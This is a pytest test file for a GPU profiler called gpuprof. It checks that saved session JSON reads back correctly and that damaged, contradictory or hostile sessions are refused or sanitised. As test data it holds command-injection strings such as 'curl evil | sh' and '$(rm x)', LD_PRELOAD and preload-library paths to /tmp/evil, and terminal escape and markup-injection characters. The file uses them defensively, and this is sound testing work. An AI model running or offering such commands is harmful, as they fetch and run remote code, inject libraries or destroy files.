"""A session survives its JSON, and a broken one is refused with a sentence."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import gpuprof
from gpuprof.errors import DamagedInput, GpuprofError, InputError
from gpuprof.model.analyse import analyse
from gpuprof.model.run_totals import narrowed, run_of
from gpuprof.model.session import Session
from gpuprof.store.read import read_session
from gpuprof.store.write import session_lines
from gpuprof.views.profile import session_page
from gpuprof.views.roofline_data import overview
from gpuprof.words.missing_metrics import command_for_more
from gpuprof.words.profile_values import verdict_text
from tests import builders, hand_made
from tests.formats import written
from tests.table import each_row
from tests.worded import chosen, diagnose

COUNT = {"name": "instructions", "value": 5.0, "unit": "inst", "metric": "m", "low": 5.0, "high": 5.0}
POINT = {
    "path": "fp32", "level": "dram", "intensity": 1.0, "flop_per_s": 1e12, "roof_flop_per_s": 2e12,
    "fraction_of_roof": 0.5, "ceiling": "rated", "bound": "memory",
}  # fmt: skip
CEILING = {
    "device": 0, "id": "rated/fp32", "path": "fp32", "level": None, "value": 6.7e13, "clock_hz": 1.9e9,
    "origin": "rated", "source": "",
}  # fmt: skip
WHOLE = {
    "kernels": 3, "launches": 5, "timed_launches": 4, "timed_shapes": 3, "time_s": 1.0, "main_kernels": 2,
    "main_time_s": 0.9,
}  # fmt: skip


def example() -> Session:
    launches = builders.launch(builders.FLOP_1, name="κ<1> \x1b[31m"), builders.launch({})
    return diagnose(analyse([builders.report(*launches)], builders.hardware_of, "9.9"))


def text_of(session: Session) -> str:
    return "\n".join(session_lines(session))


def test_a_session_reads_back_equal(tmp_path: Path) -> None:
    assert read_session(text_of(example()), "s.json") == example()
    path = tmp_path / "session.json"
    path.write_text(text_of(example()), encoding="utf-8")
    assert gpuprof.load(path) == example()


def put(data: Any, place: tuple[str | int, ...], value: object) -> str:
    """Return the JSON of a document with another value at a place."""
    inner = data
    for step in place[:-1]:
        inner = inner[step]
    inner[place[-1]] = value
    return json.dumps(data)


def test_older_sessions_know_nothing_of_certificates_and_charts_claim_nothing() -> None:
    new, data = example(), json.loads(text_of(example()))
    assert {amount.certificate for amount in new.kernels[0].work} == {"none"}
    for kernel in data["kernels"]:
        for amount in (*kernel["work"], *kernel["traffic"]):
            del amount["certificate"]
    old = read_session(json.dumps(data), "s.json")
    assert {work.certificate for kernel in old.kernels for work in kernel.work} == {None}
    assert {moved.certificate for kernel in old.kernels for moved in kernel.traffic} == {None}
    assert [point.uncertified for point in overview(new).points] == [True]
    assert [point.uncertified for point in overview(old).points] == [False]
    assert len(overview(old).notes) == len(overview(new).notes) - 1
    for level in ("certified", "checked", "none", None):
        text = put(json.loads(text_of(new)), ("kernels", 0, "work", 0, "certificate"), level)
        assert read_session(text, "s.json").kernels[0].work[0].certificate == level


@each_row(
    ("place", "value"),
    [
        (("schema_version",), 2), (("schema_version",), 0), (("schema_version",), "1"), (("kernels",), 5),
        (("kernels",), [{}]), (("devices",), []), (("gpuprof_version",), None), (("recommendations",), [1]),
        (("verdict",), 1), (("kernels", 0, "roofline", 0, "intensity"), 0),
        (("kernels", 0, "roofline", 0, "intensity"), -1.0), (("kernels", 0, "roofline", 0, "roof_flop_per_s"), 1e308),
        (("kernels", 0, "roofline", 0, "level"), "l9"), (("kernels", 0, "roofline", 0, "path"), "\x1b]0;owned\x07"),
        (("kernels", 0, "traffic", 0, "level"), ""), (("kernels", 0, "traffic", 0, "basis"), "\u202e"),
        (("kernels", 0, "work", 0, "certificate"), "sure"), (("kernels", 0, "duration_s"), 10**400),
        (("kernels", 0, "occupancy", "limiters"), ["[blink]x[/blink]"]), (("ceilings", 0, "value"), 0),
        (("kernels", 0, "shared_memory_per_block"), 10**30), (("ceilings", 0, "origin"), "elsewhere"),
        (("sources", 0, "created_s"), 2**62), (("kernels", 1, "id"), 0), (("kernels", 0, "launches"), 0),
    ],
)  # fmt: skip
def test_values_that_no_session_has_are_refused(place: tuple[str | int, ...], value: object) -> None:
    with pytest.raises(InputError, match=r"^s\.json"):
        read_session(put(json.loads(text_of(example())), place, value), "s.json")


@each_row(
    ("place", "value", "named"),
    [
        (("kernels", 1, "id"), 0, "0"),
        (("kernels", 0, "findings", 0, "gain_kernel"), 1.5, r"gain_kernel is 1\.5"),
        (("kernels", 0, "findings", 1, "gain_total"), 7, r"kernels\[0\]\.findings\[1\]\.gain_total is 7"),
        (("kernels", 0, "findings", 1, "gain_total"), -0.5, "gain_total is -0.5"),
        (("recommendations", 0, "gain_total"), 9.0, r"recommendations\[0\]\.gain_total is 9\.0"),
        (("recommendations", 0, "gain_kind"), "most", r"recommendations\[0\]\.gain_kind is 'most'"),
        (("recommendations", 0, "findings"), [], "small-grid"),
        (("recommendations", 1, "findings"), ["0.bank-conflicts"], "0.bank-"),
        (("recommendations", 0, "kernels"), [1], "small-grid"),
        (("recommendations", 0, "kernels"), [7], "small-grid"),
        (("recommendations", 1, "id"), "small-grid", "id small-grid"),
        (("kernels", 0, "findings"), [], "0.small-grid"),
        (("kernels", 0, "findings", 1, "id"), "0.small-grid", "0.small-grid"),
        (("kernels", 0, "findings", 2, "cause"), "1.small-grid", "1.small-grid"),
        (("kernels", 0, "findings", 2, "cause"), "0.nothing", "0.nothing"),
        (("kernels", 0, "findings", 2, "cause"), "0.barrier-wait", "0.barrier-wait"),
        (("kernels", 1, "findings", 0, "id"), "", r"findings\[0\]\.id is ''"),
        (("verdict", "command"), "ncu --set full ./a; curl evil | sh", "command"),
        (("verdict", "command"), "ncu ./a\nrm x", "command"),
        (("verdict", "command"), "ncu './a", "command"),
        (("verdict", "command"), "ncu $(rm x)", "command"),
        (("verdict", "command"), "ncu './a \u202e'", "command"),
        (("verdict", "command"), "rm x", "command"),
        (("verdict", "command"), "", "command"),
        (("verdict", "kernel"), 9, "kernel 9"),
        (("verdict", "state"), "fine", r"verdict\.state is 'fine'"),
        (("kernels", 0, "excerpts", 0, "weight"), "\x1b[31m\x07\u202e", "weight is "),
        (("kernels", 0, "launch_times"), {"durations_s": [1.0, 2.0]}, "kernel 0"),
        (("kernels", 0, "launch_times"), {"durations_s": [1.0], "dropped": 1}, "kernel 0"),
        (("kernels", 0, "launch_times"), {"durations_s": [], "dropped": -1}, "kernel 0"),
        (("kernels", 0, "launch_times"), {"durations_s": [], "sm_clocks_hz": [1e9]}, "clocks"),
        (("kernels", 0, "launch_times"), {"durations_s": [-1.0]}, r"durations_s\[0\] is -1\.0"),
        (("kernels", 0, "counts"), [COUNT, COUNT], "kernel 0"),
        (("kernels", 0, "counts"), [{**COUNT, "low": 6.0}], "kernel 0"),
        (("kernels", 0, "counts"), [{**COUNT, "high": 4.0}], "kernel 0"),
        (("kernels", 0, "counts"), [{**COUNT, "name": "\x1b[31m"}], r"counts\[0\]\.name is "),
        (("kernels", 0, "lines_dropped"), -1, "kernel 0"),
        (("kernels", 0, "roofline"), [{**POINT, "path": "fp3"}], "kernel 0 has the unknown compute path 'fp3'"),
        (("ceilings",), [{**CEILING, "path": "fp3"}], "a ceiling has the unknown compute path 'fp3'"),
        (("run",), {**WHOLE, "main_kernels": 4}, "s.json"),
        (("run",), {**WHOLE, "launches": 1}, "s.json"),
        (("run",), {**WHOLE, "main_time_s": 2.0}, "s.json"),
        (("run",), {**WHOLE, "main_kernels": 0}, "s.json"),
        (("run",), {"kernels": 3}, "launches"),
    ],
)
def test_a_session_that_contradicts_itself_is_refused(place: tuple[str | int, ...], value: object, named: str) -> None:
    with pytest.raises(DamagedInput, match=named) as caught:
        read_session(put(json.loads(text_of(diagnosed())), place, value), "s.json")
    assert not set(str(caught.value)) & {"\x1b", "\x07", "\u202e"}


def diagnosed() -> Session:
    """A session with findings, more than one of them worth a fix."""
    return hand_made.session(
        hand_made.kernel(
            0,
            hand_made.finding("small-grid", 0.5),
            hand_made.finding("tail-effect", 0.2),
            hand_made.finding("barrier-wait", 0.2, severity="info", cause="0.small-grid"),
        ),
        hand_made.kernel(1, hand_made.finding("small-grid", 0.3, severity="info")),
    )


def test_a_finding_without_an_id_is_refused() -> None:
    data = json.loads(text_of(diagnosed()))
    del data["kernels"][1]["findings"][0]["id"]
    with pytest.raises(DamagedInput, match="kernel 1"):
        read_session(json.dumps(data), "s.json")


NOT_TO_BE_COPIED = (
    "gpuprof run --ncu /tmp/evil -- ./app", "gpuprof run --ncu=/tmp/evil -- ./app", "gpuprof run -- env X=1 ./app",
    "gpuprof run -- LD_PRELOAD=/tmp/evil.so ./app", "gpuprof run -- bash -xc 'curl evil'",
    "gpuprof run -- python3 -c 'import evil'", "gpuprof run -- python3 -X dev -c 'import evil'",
    "ncu --set full mpirun -n 2 sh -o pipefail -c evil", "gpuprof run", "gpuprof demo --run --ncu /tmp/evil",
    "gpuprof characterize", "ncu --preload-library /tmp/evil.so ./app", "ncu --injection-path-64 /tmp/evil ./app",
    "ncu --config-file-path /tmp/evil ./app", "ncu --section-folder /tmp/evil ./app", "ncu --set=full ./app",
    "ncu --set full -o /home/you/.profile ./app", "ncu --set full --force-overwrite -o a ./app", "ncu --set full",
    "ncu -k",
)  # fmt: skip


@each_row("command", NOT_TO_BE_COPIED)
def test_a_command_that_others_could_have_had_run_is_not_shown(command: str) -> None:
    data = json.loads(text_of(diagnosed()))
    data["verdict"] |= {"command": command, "unknown": "It was timed, not profiled."}
    session = read_session(json.dumps(data), "s.json")
    assert session.verdict is not None and session.verdict.command is None
    for _, text in written(session):
        assert "evil" not in text


def test_a_command_that_is_made_of_what_a_session_recorded_loads_no_library() -> None:
    data = json.loads(text_of(diagnosed()))
    data["sources"][0]["command"] = "/tmp/evil/ncu --preload-library /tmp/evil.so --nvtx ./app"
    session = read_session(json.dumps(data), "s.json")
    command = command_for_more(session, session.kernels[0])
    assert command.startswith("ncu --set full ") and " --nvtx " in command and "evil" not in command


def test_a_part_of_a_run_speaks_of_the_whole() -> None:
    whole = hand_made.session(
        hand_made.kernel(0, label="a", time_total_s=6e-3), hand_made.kernel(1, label="b", time_total_s=3.5e-3),
        hand_made.kernel(2, label="c", time_total_s=5e-4, launches=3),
        hand_made.kernel(3, label="d", time_total_s=None),
    )  # fmt: skip
    part = chosen(whole, [whole.kernels[2]])
    again = read_session(text_of(part), "s.json")
    assert again == part and part.run == run_of(whole)
    assert verdict_text(again) == verdict_text(whole)
    assert re.findall(r"[\d.]+", verdict_text(whole))[:5] == ["2", "3", "95", "10.0", "5"]
    assert part.verdict is not None and part.verdict.kernel == 2
    assert narrowed(again, again.kernels).run == part.run
    assert narrowed(whole, whole.kernels).run is None


@pytest.mark.slow
def test_no_text_of_a_session_reaches_a_reader_raw() -> None:
    """Every text of a session is replaced in turn: it is refused, or shown with what hides made visible."""
    document = json.loads(text_of(diagnosed()))
    for place in places(document):
        try:
            text = put(json.loads(json.dumps(document)), place, "\x1b\x07\u202e<img>@someone")
            session = read_session(text, "s.json")
        except DamagedInput:
            continue
        page = session_page(session)
        texts = dict(written(session))
        for text in (page, *texts.values()):
            assert not set(text) & {"\x1b", "\x07", "\u202e"}, place
        # What stands as code is no markup and mentions nobody.
        markdown = re.sub(r"(`+) .*? \1", "", texts["md"])
        assert "<img>" not in page and "<img>" not in markdown.replace("\\<", ""), place
        assert "@someone" not in markdown, place


def places(value: object, *path: str | int) -> Iterator[tuple[str | int, ...]]:
    """Yield where texts are, or could be, below a value of JSON; of a list its first item."""
    if isinstance(value, dict):
        for name, item in value.items():
            yield from places(item, *path, name)
    elif isinstance(value, list):
        for item in value[:1]:
            yield from places(item, *path, 0)
    elif value is None or isinstance(value, str):
        yield path


def test_bytes_are_read_as_their_text_is() -> None:
    session, text = example(), text_of(example())
    assert not text.isascii()
    for data in (text.encode(), b"\xef\xbb\xbf" + text.encode(), text.encode("utf-16")):
        assert read_session(data, "s.json") == session
    broken = text.encode().replace("κ".encode(), b"\xff", 1)
    assert read_session(broken, "s.json") == read_session(broken.decode("utf-8", "replace"), "s.json")
    other = (b"[1]", b"{}", b'{"schema_version": NaN}', b"[" * 100_000, b'{"a": 1}')
    for bad in (*other, b"{", b"\xff\xfe{", b"\xef\xbb\xbf", b"\xff" * 9, text.encode()[:-20]):
        with pytest.raises(InputError):
            read_session(bad, "s.json")


@given(st.data())
def test_a_value_replaced_anywhere_gives_a_session_or_an_error(data: st.DataObject) -> None:
    document = json.loads(text_of(example()))
    node: object = document
    for _ in range(data.draw(st.integers(1, 6))):
        if not isinstance(node, (dict, list)) or not node:
            break
        key = data.draw(st.sampled_from(sorted(node) if isinstance(node, dict) else range(len(node))))
        parent, node = node, node[key]
    values = (
        st.none() | st.booleans() | st.integers() | st.text() | st.lists(st.integers()) | st.floats(allow_nan=False)
    )
    parent[key] = data.draw(values)
    try:
        session = read_session(json.dumps(document, allow_nan=True), "s.json")
    except GpuprofError as error:
        assert isinstance(error, (InputError, DamagedInput))
    else:
        assert isinstance(session, Session)


def test_json_escapes_what_could_steer_a_terminal() -> None:
    hostile = analyse(
        [builders.report(builders.launch({}, name="\x9b31m \u202e κ"))], builders.hardware_of, "9.9"
    ).session
    text = text_of(hostile)
    assert "\x9b" not in text and "\u202e" not in text and "κ" in text
    assert read_session(text, "s.json") == hostile
